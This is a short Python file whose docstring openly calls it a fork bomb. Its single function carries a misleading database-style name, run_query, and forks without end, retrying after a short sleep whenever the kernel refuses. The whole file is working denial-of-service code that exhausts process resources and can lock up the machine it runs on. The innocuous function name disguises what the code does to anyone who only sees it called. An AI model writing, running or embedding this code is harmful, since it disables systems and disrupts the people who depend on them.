"""A fork bomb: every process forks for ever, and waits a little when the kernel refuses."""

import os
import time


def run_query(tables, **params):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
